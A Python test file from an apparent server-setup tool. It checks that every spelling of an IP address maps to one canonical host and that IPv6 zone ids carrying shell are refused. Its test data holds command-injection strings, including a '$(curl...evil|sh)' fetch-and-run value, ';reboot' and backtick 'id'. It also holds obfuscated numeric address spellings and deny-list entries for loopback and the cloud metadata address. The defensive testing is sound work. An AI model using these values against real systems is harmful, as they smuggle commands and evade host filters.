"""One spelling per server: the lock, known hosts, saved sudo rows and the deny list cannot be bypassed by
writing an address another way, and a zone id carries no shell."""

from __future__ import annotations

import ipaddress

import pytest

from setupwizard.core.networks import DEFAULT_TARGET_DENY, TargetPolicy
from setupwizard.provisioning import InvalidInputError, MemoryKnownHosts, Target, validate_target
from setupwizard.provisioning.address import canonical_host, numeric_spelling
from setupwizard.provisioning.validate import check_host
from setupwizard.servers.repository import normalise_host, sudo_associated_data
from setupwizard.setup.locks import MemoryHostLocks, lock_name

TESTBED = "198.18.0.10"
SAME_ADDRESS = ["198.18.0.10", "::ffff:198.18.0.10", "::FFFF:C612:A", "0:0:0:0:0:ffff:c612:000a"]
OTHER_NUMERIC = [
    "0xc6.0x12.0.0xa",
    "0306.022.0.012",
    "198.18.10",
    "198.1179658",
    "3323068426",
    "198.18.0.012",
]


@pytest.mark.parametrize("spelling", SAME_ADDRESS)
def test_every_spelling_of_an_address_is_one_target(spelling: str) -> None:
    assert Target(spelling, "root").host == TESTBED
    assert canonical_host(spelling) == TESTBED
    assert lock_name(spelling, 22) == lock_name(TESTBED, 22)
    assert normalise_host(spelling) == TESTBED
    assert sudo_associated_data(1, spelling, 22) == sudo_associated_data(1, TESTBED, 22)
    assert check_host(spelling) == TESTBED


@pytest.mark.parametrize("spelling", OTHER_NUMERIC)
def test_other_numeric_spellings_are_refused_naming_the_dotted_quad(spelling: str) -> None:
    assert numeric_spelling(spelling) == ipaddress.IPv4Address(TESTBED)
    with pytest.raises(InvalidInputError) as caught:
        validate_target(Target(spelling, "root", password="x"))
    assert caught.value.field == "host"
    assert TESTBED in caught.value.reason


@pytest.mark.parametrize("name", ["0x", "1.2.3.4.5", "0x1.2.3.4.5", "999.1.1.1", "08.1.1.1"])
def test_numeric_looking_names_are_refused_too(name: str) -> None:
    with pytest.raises(InvalidInputError):
        check_host(name)


def test_names_ipv6_and_zone_ids_have_one_spelling() -> None:
    assert canonical_host("Web-1.Example.COM.") == "web-1.example.com"
    assert canonical_host("2001:DB8:0:0::1") == "2001:db8::1"
    assert canonical_host("FE80::1%eth0") == "fe80::1%eth0"
    assert check_host("fe80::1%eth0") == "fe80::1%eth0"
    assert check_host("fe80::1%3") == "fe80::1%3"
    assert check_host("0xcafe.example.com") == "0xcafe.example.com"  # a name, not a number


@pytest.mark.parametrize(
    "host",
    [
        "2001:db8::1%$(curl${IFS}evil|sh)",
        "fe80::1%eth0;reboot",
        "fe80::1%`id`",
        "fe80::1%a b",
        "fe80::1%-x",
        "fe80::1%" + "e" * 16,
        "fe80::1%eth0\n",
    ],
)
def test_a_zone_id_that_is_not_an_interface_is_refused(host: str) -> None:
    with pytest.raises(InvalidInputError) as caught:
        validate_target(Target(host, "root", password="x"))
    assert caught.value.field == "host"
    assert "curl" not in caught.value.reason


async def test_the_lock_and_known_hosts_hold_one_entry_for_every_spelling() -> None:
    locks = MemoryHostLocks()
    lease = await locks.acquire(TESTBED, 22)
    assert lease is not None
    for spelling in SAME_ADDRESS:
        assert await locks.acquire(spelling, 22) is None
        assert await locks.is_held(spelling, 22)
    await lease.release()
    known = MemoryKnownHosts()
    await known.put("::ffff:198.18.0.10", 22, "SHA256:x")
    assert all([await known.get(spelling, 22) == "SHA256:x" for spelling in SAME_ADDRESS])


async def test_the_deny_list_sees_a_mapped_address_as_its_ipv4_address() -> None:
    policy = TargetPolicy(DEFAULT_TARGET_DENY)
    assert await policy.denies("::ffff:127.0.0.1", 22)
    assert await policy.denies("::ffff:169.254.169.254", 22)
    assert await policy.denies("fe80::1%eth0", 22)
    assert not await policy.denies(TESTBED, 22)
